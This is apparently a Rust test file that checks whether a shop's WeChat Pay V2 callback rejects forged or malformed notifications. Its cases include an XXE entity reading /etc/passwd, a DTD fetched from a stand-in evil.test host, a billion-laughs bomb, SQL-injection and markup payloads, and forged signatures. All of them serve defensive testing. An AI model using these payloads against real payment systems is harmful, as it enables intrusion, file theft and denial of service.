//! V2 notifications that WeChat did not send.

use test_support::Database;
use wechat::pay::v2::SignType;

use super::{
    CALLBACK, Case, Misfit, REFUND_CALLBACK, kept_as_differences, nothing_changes,
    wire::{Request, post},
};
use crate::{
    app::TestApp,
    notifications::{genuine, signed_again},
    on_both,
};

on_both!(forged_v2_notifications_change_nothing, v2_notifications_that_verify_and_do_not_fit_are_kept);

fn xml(body: impl Into<Vec<u8>>) -> Request {
    post(CALLBACK).with("content-type: text/xml").body(body)
}

/// The text between the tags of a field.
#[track_caller]
fn value<'a>(message: &'a str, name: &str) -> &'a str {
    let rest = message.split_once(&format!("<{name}><![CDATA[")).unwrap().1;
    rest.split_once("]]>").unwrap().0
}

/// With another value, and the old signature.
#[track_caller]
fn with(message: &str, name: &str, new: &str) -> String {
    let field = |value: &str| format!("<{name}><![CDATA[{value}]]></{name}>");
    let changed = message.replace(&field(value(message, name)), &field(new));
    assert_ne!(changed, message);
    changed
}

#[track_caller]
fn without(message: &str, name: &str) -> String {
    let changed = message.replace(&format!("<{name}><![CDATA[{}]]></{name}>", value(message, name)), "");
    assert_ne!(changed, message);
    changed
}

fn utf16(text: &str) -> Vec<u8> {
    [0xfeff].into_iter().chain(text.encode_utf16()).flat_map(u16::to_le_bytes).collect()
}

/// As `gzip -0` writes it; nobody unpacks it, so nobody looks at the checksum.
#[track_caller]
fn gzip(text: &str) -> Vec<u8> {
    let length = u16::try_from(text.len()).unwrap();
    let head = [0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 3, 1];
    [&head[..], &length.to_le_bytes(), &(!length).to_le_bytes(), text.as_bytes(), &[0; 8]].concat()
}

const LAUGHS: &str = "<!DOCTYPE xml [<!ENTITY a \"ha\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;\">\
                      <!ENTITY c \"&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;\"><!ENTITY d \"&c;&c;&c;&c;&c;&c;&c;&c;\">]>";

async fn forged_v2_notifications_change_nothing(database: Database) {
    let app = TestApp::start(database).await;
    let mut shopper = app.shopper().await;
    let (order, number) = shopper.about_to_pay("mug-celadon-300", 1).await;
    let (_, other_number) = shopper.about_to_pay("mug-celadon-300", 1).await;
    let good = genuine(&app, &number, &[]).await;
    let inner = good.strip_prefix("<xml>").unwrap().strip_suffix("</xml>").unwrap().to_owned();
    let key = app.account().await["api_v2_key"].as_str().unwrap().to_owned();
    let sign = value(&good, "sign").to_owned();
    let again = |key: &str, sign_type| signed_again(&good, key, sign_type);
    let cases: Vec<Case> = vec![
        // not the XML that WeChat writes
        ("nothing", xml(""), 400),
        ("blanks", xml(" \r\n\t "), 400),
        ("an empty root", xml("<xml/>"), 400),
        ("half of it", xml(&good[..good.len() / 2]), 400),
        ("a document type", xml(format!("<!DOCTYPE xml>{good}")), 400),
        (
            "an external entity",
            xml(format!(
                "<!DOCTYPE xml [<!ENTITY a SYSTEM \"file:///etc/passwd\">]><xml><attach>&a;</attach>{inner}</xml>"
            )),
            400,
        ),
        (
            "an entity of the attacker's server",
            xml(format!("<!DOCTYPE xml SYSTEM \"http://evil.test/a.dtd\">{good}")),
            400,
        ),
        ("a billion laughs", xml(format!("{LAUGHS}<xml><attach>&d;</attach>{inner}</xml>")), 400),
        ("an unknown entity", xml(format!("<xml><attach>&nbsp;</attach>{inner}</xml>")), 400),
        (
            "a processing instruction",
            xml(format!("<?xml-stylesheet href=\"http://evil.test/\"?>{good}")),
            400,
        ),
        ("ten thousand elements deep", xml(format!("<xml>{}", "<a>".repeat(10_000))), 400),
        ("an element in a field", xml(good.replace("<![CDATA[5900]]>", "<b>5900</b>")), 400),
        ("257 fields", xml(format!("<xml>{}{inner}</xml>", fields(257))), 400),
        ("a second signature", xml(format!("<xml>{inner}<sign>0</sign></xml>")), 400),
        (
            "a second amount behind the true one",
            xml(format!("<xml>{inner}<total_fee>1</total_fee></xml>")),
            400,
        ),
        (
            "a second amount before the true one",
            xml(format!("<xml><total_fee>1</total_fee>{inner}</xml>")),
            400,
        ),
        ("two roots", xml(format!("{good}{good}")), 400),
        ("another root", xml(format!("<root>{inner}</root>")), 400),
        ("a root in capitals", xml(format!("<XML>{inner}</XML>")), 400),
        ("a root with a prefix", xml(format!("<x:xml xmlns:x=\"x\">{inner}</x:xml>")), 400),
        ("an attribute of the root", xml(format!("<xml a=\"1\">{inner}</xml>")), 400),
        ("an attribute of a field", xml(good.replace("<total_fee>", "<total_fee currency=\"CNY\">")), 400),
        ("a name that signs as two fields", xml(format!("<xml><a=1&b>2</a=1&b>{inner}</xml>")), 400),
        ("text between the fields", xml(format!("<xml>5900{inner}</xml>")), 400),
        ("text behind the root", xml(format!("{good}5900")), 400),
        ("a CDATA section without an end", xml(good.replace("]]></sign></xml>", "")), 400),
        ("a NUL byte", xml(good.replace("OTHERS", "OTH\0ERS")), 400),
        ("a NUL by number", xml(format!("<xml><attach>&#0;</attach>{inner}</xml>")), 400),
        ("UTF-16", xml(utf16(&good)), 400),
        ("Latin-1", xml([b"<xml><attach>\xe9</attach>", inner.as_bytes(), b"</xml>"].concat()), 400),
        ("packed", xml(gzip(&good)).with("content-encoding: gzip"), 400),
        ("JSON", xml(r#"{"return_code":"SUCCESS","out_trade_no":"1"}"#), 400),
        ("a form", post(CALLBACK).form("return_code=SUCCESS&out_trade_no=1&sign=0"), 400),
        ("a megabyte", xml(format!("<xml><attach>{}</attach>{inner}</xml>", "x".repeat(1 << 20))), 413),
        ("a byte more than is read", xml(format!("{good}{}", " ".repeat(64 * 1024 + 1 - good.len()))), 413),
        // not signed by WeChat
        ("no return_code", xml(without(&good, "return_code")), 400),
        ("FAIL and no more", xml("<xml><return_code>FAIL</return_code></xml>"), 400),
        ("FAIL before all the rest", xml(with(&good, "return_code", "FAIL")), 400),
        ("success in small letters", xml(with(&good, "return_code", "success")), 400),
        ("no signature", xml(without(&good, "sign")), 400),
        ("an empty signature", xml(with(&good, "sign", "")), 400),
        ("a signature of blanks", xml(with(&good, "sign", " ")), 400),
        ("a signature of zeros", xml(with(&good, "sign", &"0".repeat(64))), 400),
        ("a signature in small letters", xml(with(&good, "sign", &sign.to_lowercase())), 400),
        ("half a signature", xml(with(&good, "sign", &sign[..32])), 400),
        ("a signature and a blank", xml(with(&good, "sign", &format!("{sign} "))), 400),
        ("MD5 where the attempt has HMAC", xml(again(&key, SignType::Md5)), 400),
        ("MD5, and says so", xml(signed_again(&with(&good, "sign_type", "MD5"), &key, SignType::Md5)), 400),
        ("a sign type that there is not", xml(with(&good, "sign_type", "NONE")), 400),
        (
            "the signature of another key",
            xml(again("Xiaodian0Simulator1ApiV2Key23457", SignType::HmacSha256)),
            400,
        ),
        ("the signature of an empty key", xml(again("", SignType::HmacSha256)), 400),
        (
            "the signature of the other generation's key",
            xml(again("Xiaodian0Simulator1ApiV3Key23456", SignType::HmacSha256)),
            400,
        ),
        // the true signature of other words
        ("a lower amount", xml(with(&good, "total_fee", "1")), 400),
        ("another order", xml(with(&good, "out_trade_no", &other_number)), 400),
        ("another payment", xml(with(&good, "transaction_id", "4200000000202611210000000009")), 400),
        ("another merchant", xml(with(&good, "mch_id", "1900009999")), 400),
        ("one more field", xml(format!("<xml>{inner}<attach>a</attach></xml>")), 400),
        ("one field less", xml(without(&good, "bank_type")), 400),
        ("SQL for a number", xml(with(&good, "out_trade_no", "1' OR '1'='1' --")), 400),
        ("a number of 1,000 digits", xml(with(&good, "out_trade_no", &"1".repeat(1000))), 400),
        ("no number", xml(without(&good, "out_trade_no")), 400),
        // it is not for whoever asks to say which generation it is
        (
            "V2 with the headers of V3, forged",
            xml(with(&good, "total_fee", "1")).with_all(&[
                "wechatpay-timestamp: 1",
                "wechatpay-nonce: 1",
                "wechatpay-serial: 1",
                "wechatpay-signature: 1",
            ]),
            400,
        ),
        ("forged, to the refunds' address", post(REFUND_CALLBACK).body(with(&good, "total_fee", "1")), 400),
    ];
    nothing_changes(&app, cases).await;
    assert_eq!(app.state(&order).await, "paying");
    // and the same notification, untouched, is taken; again, and elsewhere, it says nothing new
    assert_eq!(xml(good.clone()).send(&app.url).await.status, 200);
    assert_eq!(app.state(&order).await, "paid");
    let replays: Vec<Case> = vec![
        ("once more", xml(good.clone()), 200),
        ("to the refunds' address", post(REFUND_CALLBACK).body(good.clone()), 200),
        ("as a form", post(CALLBACK).with("content-type: application/x-www-form-urlencoded").body(good), 200),
    ];
    nothing_changes(&app, replays).await;
    app.stop().await;
}

fn fields(count: usize) -> String {
    (0..count).map(|at| format!("<field{at}>1</field{at}>")).collect()
}

async fn v2_notifications_that_verify_and_do_not_fit_are_kept(database: Database) {
    let app = TestApp::start(database).await;
    let (order, number) = app.shopper().await.about_to_pay("mug-celadon-300", 1).await;
    let mut cases: Vec<Misfit> = Vec::new();
    let unusable = "unusable_notification";
    for (what, change, kind) in [
        ("an amount with a point", [("total_fee", "5900.0")], unusable),
        ("in yuan", [("total_fee", "59.00")], unusable),
        ("below nothing", [("total_fee", "-5900")], unusable),
        ("with a plus", [("total_fee", "+5900")], unusable),
        ("with an exponent", [("total_fee", "59e2")], unusable),
        ("in full-width digits", [("total_fee", "５９００")], unusable),
        ("in Arabic digits", [("total_fee", "٥٩٠٠")], unusable),
        ("hexadecimal", [("total_fee", "0x170c")], unusable),
        ("with a blank", [("total_fee", "5900 ")], unusable),
        ("with a comma", [("total_fee", "5,900")], unusable),
        ("more than a number holds", [("total_fee", "9223372036854775808")], unusable),
        ("no amount", [("total_fee", "")], unusable),
        ("nothing", [("total_fee", "0")], "other_amount"),
        ("a leading zero and too little", [("total_fee", "0590")], "other_amount"),
        ("a fen too much", [("total_fee", "5901")], "other_amount"),
        ("another account", [("appid", "wx0000000000000000")], "other_appid"),
        ("another merchant", [("mch_id", "1900009999")], "other_mch_id"),
        ("dollars", [("fee_type", "USD")], "other_currency"),
        ("a failed payment", [("result_code", "FAIL")], unusable),
        ("no result", [("result_code", "")], unusable),
        ("no payment's number", [("transaction_id", "")], unusable),
        (
            "SQL for a payment's number",
            [("transaction_id", "1'; DROP TABLE orders; --")],
            "bad_transaction_id",
        ),
        ("markup for an account", [("appid", "<hostile onload=alert(1)>")], "other_appid"),
    ] {
        cases.push((what, xml(genuine(&app, &number, &change).await), kind));
    }
    let long = "9".repeat(1000);
    for (what, number) in [
        ("an order that nobody placed", "NOBODYKNOWSME1"),
        ("SQL for an order", "1' OR '1'='1' --"),
        ("an order of 1,000 digits", &long),
        ("an order in another alphabet", "订单１"),
    ] {
        cases.push((what, xml(genuine(&app, number, &[]).await), "unknown_order"));
    }
    kept_as_differences(&app, cases).await;
    assert_eq!(app.state(&order).await, "paying");
    app.stop().await;
}
